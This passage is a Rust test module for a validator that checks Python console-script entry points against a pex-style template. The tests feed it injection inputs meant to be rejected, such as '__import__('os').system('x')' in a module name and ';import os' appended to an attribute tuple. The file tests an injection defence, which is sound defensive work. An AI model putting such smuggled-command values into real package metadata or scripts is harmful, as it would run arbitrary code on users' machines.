        // A script anywhere else is a file like any other, checked by its hash.
        assert!(check("six.py", script).is_err());
    }

    #[test]
    fn a_console_script_is_pex_s_with_a_module_and_attributes_only() {
        let template = parse_template(
            "{shebang}\nimport importlib\nm = importlib.import_module({modname!r})\nfor a in {attrs!r}:\n    m = getattr(m, a)",
        );
        let script = |module: &str, attrs: &str| {
            format!(
                "#!python\nimport importlib\nm = importlib.import_module({module})\nfor a in {attrs}:\n    m = getattr(m, a)"
            )
        };
        assert!(matches(
            &template,
            &script("'falcon.cmd.bench'", "('main',)"),
            script_value
        ));
        assert!(matches(
            &template,
            &script("'a'", "('b', 'c')"),
            script_value
        ));
        assert!(!matches(
            &template,
            &script("__import__('os').system('x')", "('main',)"),
            script_value
        ));
        assert!(!matches(
            &template,
            &script("'a'", "('main',);import os"),
            script_value
        ));
        // A module name quoted at both ends, and only names inside the quotes.
        for module in ["'os').system('x'", "'tool", "tool'", "''"] {
            assert!(
                !matches(&template, &script(module, "('main',)"), script_value),
                "{module}"
            );
        }
    }
}
